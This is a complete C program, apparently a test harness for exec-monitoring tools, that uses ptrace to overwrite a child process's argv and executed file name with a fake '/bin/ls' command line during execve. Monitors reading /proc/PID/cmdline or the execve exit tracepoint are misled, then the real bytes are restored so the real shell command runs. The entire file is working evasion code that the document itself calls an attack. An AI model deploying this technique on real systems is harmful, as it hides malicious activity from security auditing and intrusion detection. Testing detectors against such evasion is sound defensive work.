// SPDX-License-Identifier: GPL-2.0
/*
 * ptrace_spoof: logs a command line that never ran. A child runs
 * `/bin/sh -c REAL_CMD` under this program's ptrace. At the
 * PTRACE_EVENT_EXEC stop (the new image is in place, execve has not
 * returned) the argv area of the new stack (mm->arg_start..arg_end) and the
 * executed file name the kernel copied just above the environment (at
 * mm->env_end) are overwritten with a fake of the same length. The child
 * is then let on to the syscall-exit stop of execve: anything reading the
 * new image's argv at the execve exit tracepoint (which fires before that
 * stop) reads the fake. There the real bytes are put back and the child is
 * detached, so the real command runs, with its real argv.
 *
 *   ptrace_spoof [-w] REAL_CMD
 *
 * Output (stdout, each line flushed):
 *   1. the child's pid, before it execs;
 *   2. with -w only: "spoofed" when the fake is in place; it then waits for
 *      a line (or EOF) on stdin before letting execve return, so a test can
 *      read /proc/PID/cmdline while the fake is there;
 *   3. after the child has exited, the real exec as one JSON object:
 *      {"filename": "/bin/sh", "argv": ["/bin/sh", "-c", "REAL_CMD"]}
 *   4. the fake, in the same form, e.g.
 *      {"filename": "/bin/ls", "argv": ["/bin/ls", "-c", "echo hello, nothing to see"]}
 *      (the last argument padded with spaces or cut to the real length).
 * JSON strings escape '"', '\\', bytes below 0x20 and 0x7f; other bytes
 * are written as they are (json_out.c).
 *
 * Exit status: the real command's (128 + signal if it was killed), or 125
 * if the attack itself failed (with a message on stderr).
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "json_out.h"

#define REAL_PATH	"/bin/sh"
#define FAIL		125
/* Far more than execve accepts in argv (ARG_MAX is a quarter of the stack limit). */
#define MAX_ARGS	(64UL << 20)

static const char *const fake_args[] = {
	"/bin/ls", "-c", "echo hello, nothing to see", NULL
};

/* A span of the tracee's memory: where it is, what was there, what we put. */
struct span {
	unsigned long addr;
	size_t len;
	char *real;
	char *fake;
};

static struct span args_span, file_span;

static int die(const char *what)
{
	fprintf(stderr, "ptrace_spoof: %s: %s\n", what, strerror(errno));
	return FAIL;
}

/* mm->arg_start, arg_end, env_start, env_end: /proc/PID/stat fields 48-51. */
static int read_mm_args(pid_t pid, unsigned long f[4])
{
	char path[64], buf[4096], *p;
	ssize_t n;
	int fd, i;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	/*
	 * comm may hold spaces and ')': fields are counted after the last
	 * ')', the k-th space from there being the one before field k + 2.
	 */
	p = strrchr(buf, ')');
	if (!p)
		return -1;
	for (i = 2; i < 48 && p; i++)
		p = strchr(p + 1, ' ');
	if (!p || sscanf(p, " %lu %lu %lu %lu", &f[0], &f[1], &f[2], &f[3]) != 4)
		return -1;
	return 0;
}

static ssize_t peek(pid_t pid, unsigned long addr, void *buf, size_t len)
{
	struct iovec local = { buf, len }, remote = { (void *)addr, len };

	return process_vm_readv(pid, &local, 1, &remote, 1, 0);
}

static int poke(pid_t pid, unsigned long addr, const void *buf, size_t len)
{
	struct iovec local = { (void *)buf, len }, remote = { (void *)addr, len };

	return process_vm_writev(pid, &local, 1, &remote, 1, 0) == (ssize_t)len ? 0 : -1;
}

/* The fake argv: fake_args NUL-separated, the last one fitted to len. */
static void make_fake_args(char *out, size_t len)
{
	size_t at = 0, i, n;

	memset(out, ' ', len);
	for (i = 0; fake_args[i] && at < len; i++) {
		n = strlen(fake_args[i]) + 1;
		if (n > len - at)
			n = len - at;
		memcpy(out + at, fake_args[i], n);
		at += n;
	}
	/* Pad: the last argument's NUL moves to the very end. */
	if (at < len)
		out[at - 1] = ' ';
	out[len - 1] = '\0';
}

/* The fake file name: "/bin/ls" with leading slashes to the real length. */
static void make_fake_file(char *out, size_t len)
{
	const char *name = "/bin/ls";
	size_t n = strlen(name), pad = len > n ? len - n : 0;

	memset(out, '/', pad);
	memcpy(out + pad, name, len - pad);
}

static int capture(pid_t pid)
{
	unsigned long f[4];
	ssize_t n;

	if (read_mm_args(pid, f))
		return die("reading /proc/PID/stat");
	if (f[1] <= f[0] || f[1] - f[0] > MAX_ARGS) {
		fprintf(stderr, "ptrace_spoof: implausible argv area %#lx-%#lx\n", f[0], f[1]);
		return FAIL;
	}
	args_span.addr = f[0];
	args_span.len = f[1] - f[0];
	/* One buffer: the real bytes, then the fake. */
	args_span.real = malloc(2 * args_span.len);
	if (!args_span.real)
		return die("malloc");
	args_span.fake = args_span.real + args_span.len;
	if (peek(pid, f[0], args_span.real, args_span.len) != (ssize_t)args_span.len)
		return die("reading the new argv");
	/*
	 * bprm->filename was copied first, to the top of the new stack, so it
	 * sits right above the environment's strings. The read may stop short
	 * at the end of the stack.
	 */
	file_span.real = calloc(2, PATH_MAX + 1);
	if (!file_span.real)
		return die("calloc");
	file_span.fake = file_span.real + PATH_MAX + 1;
	n = peek(pid, f[3], file_span.real, PATH_MAX);
	if (n <= 0 || !memchr(file_span.real, '\0', n))
		return die("reading the executed file name");
	file_span.addr = f[3];
	file_span.len = strlen(file_span.real);
	make_fake_args(args_span.fake, args_span.len);
	make_fake_file(file_span.fake, file_span.len);
	return 0;
}

/* /proc/PID/cmdline returns at most a page per read(). */
static ssize_t read_full(int fd, char *buf, size_t len)
{
	size_t at = 0;
	ssize_t n;

	while (at < len) {
		n = read(fd, buf + at, len - at);
		if (n < 0)
			return -1;
		if (n == 0)
			break;
		at += n;
	}
	return at;
}

/* What a reader of /proc/PID/cmdline sees now must be the fake. */
static int check_cmdline(pid_t pid)
{
	char path[64], *buf;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	fd = open(path, O_RDONLY);
	buf = malloc(args_span.len + 1);
	if (fd < 0 || !buf)
		return die("opening /proc/PID/cmdline");
	n = read_full(fd, buf, args_span.len + 1);
	close(fd);
	n = n == (ssize_t)args_span.len && !memcmp(buf, args_span.fake, n);
	free(buf);
	if (!n) {
		fprintf(stderr, "ptrace_spoof: /proc/PID/cmdline does not show the fake\n");
		return FAIL;
	}
	return 0;
}

static int write_spans(pid_t pid, int fake)
{
	if (poke(pid, args_span.addr, fake ? args_span.fake : args_span.real, args_span.len) ||
	    poke(pid, file_span.addr, fake ? file_span.fake : file_span.real, file_span.len))
		return die("writing the new image");
	return 0;
}

static void wait_for_go(void)
{
	char line[64];

	puts("spoofed");
	fflush(stdout);
	if (!fgets(line, sizeof(line), stdin))
		clearerr(stdin);
}

/* Wait for the stop whose status>>8 is want, passing signals on. */
static int wait_stop(pid_t pid, int want, int resume)
{
	int status, sig = 0;

	for (;;) {
		if (ptrace(resume, pid, 0, (void *)(long)sig))
			return die("resuming the child");
		if (waitpid(pid, &status, 0) < 0)
			return die("waitpid");
		if (!WIFSTOPPED(status)) {
			fprintf(stderr, "ptrace_spoof: the child ended before its exec returned\n");
			return FAIL;
		}
		if (status >> 8 == want)
			return 0;
		/* Pass a real signal on; swallow other ptrace stops. */
		sig = status >> 8 == WSTOPSIG(status) && WSTOPSIG(status) != SIGTRAP ?
		      WSTOPSIG(status) : 0;
	}
}

static void child(const char *cmd)
{
	char *argv[] = { REAL_PATH, "-c", (char *)cmd, NULL };

	if (ptrace(PTRACE_TRACEME, 0, 0, 0)) {
		perror("ptrace_spoof: PTRACE_TRACEME (is it run under a tracer?)");
		_exit(FAIL);
	}
	/* Stop so that the parent can set its options before the exec. */
	raise(SIGSTOP);
	execv(argv[0], argv);
	_exit(127);
}

static int spoof(pid_t pid, int hold)
{
	int err;

	err = wait_stop(pid, SIGTRAP | (PTRACE_EVENT_EXEC << 8), PTRACE_CONT);
	if (err || (err = capture(pid)) || (err = write_spans(pid, 1)) ||
	    (err = check_cmdline(pid)))
		return err;
	if (hold)
		wait_for_go();
	/* The exit tracepoint fires here, before the syscall-exit stop. */
	err = wait_stop(pid, SIGTRAP | 0x80, PTRACE_SYSCALL);
	if (err || (err = write_spans(pid, 0)))
		return err;
	if (ptrace(PTRACE_DETACH, pid, 0, 0))
		return die("PTRACE_DETACH");
	return 0;
}

/* {"filename": FILE, "argv": [each NUL-terminated string of args]} */
static void print_exec(const char *file, size_t file_len, const char *args, size_t len)
{
	printf("{\"filename\": ");
	json_string(stdout, file, file_len);
	printf(", \"argv\": ");
	json_strings(stdout, args, len);
	printf("}\n");
}

static int exit_code(int status)
{
	if (WIFEXITED(status))
		return WEXITSTATUS(status);
	return WIFSIGNALED(status) ? 128 + WTERMSIG(status) : FAIL;
}

int main(int argc, char **argv)
{
	int hold = argc > 1 && !strcmp(argv[1], "-w");
	int status, err;
	pid_t pid;

	if (argc != 2 + hold) {
		fprintf(stderr, "usage: ptrace_spoof [-w] REAL_CMD\n");
		return 2;
	}
	pid = fork();
	if (pid < 0)
		return die("fork");
	if (pid == 0)
		child(argv[1 + hold]);
	if (waitpid(pid, &status, 0) < 0 || !WIFSTOPPED(status))
		return die("waiting for the child's SIGSTOP");
	/* EXITKILL: if we die mid-attack, the child does not run on. */
	if (ptrace(PTRACE_SETOPTIONS, pid, 0, (void *)(long)(PTRACE_O_TRACEEXEC |
		   PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL)))
		return die("PTRACE_SETOPTIONS");
	printf("%d\n", pid);
	fflush(stdout);
	err = spoof(pid, hold);
	if (err) {
		kill(pid, SIGKILL);
		waitpid(pid, &status, 0);
		return err;
	}
	if (waitpid(pid, &status, 0) < 0)
		return die("waitpid");
	print_exec(file_span.real, file_span.len, args_span.real, args_span.len);
	print_exec(file_span.fake, file_span.len, args_span.fake, args_span.len);
	fflush(stdout);
	return exit_code(status);
}
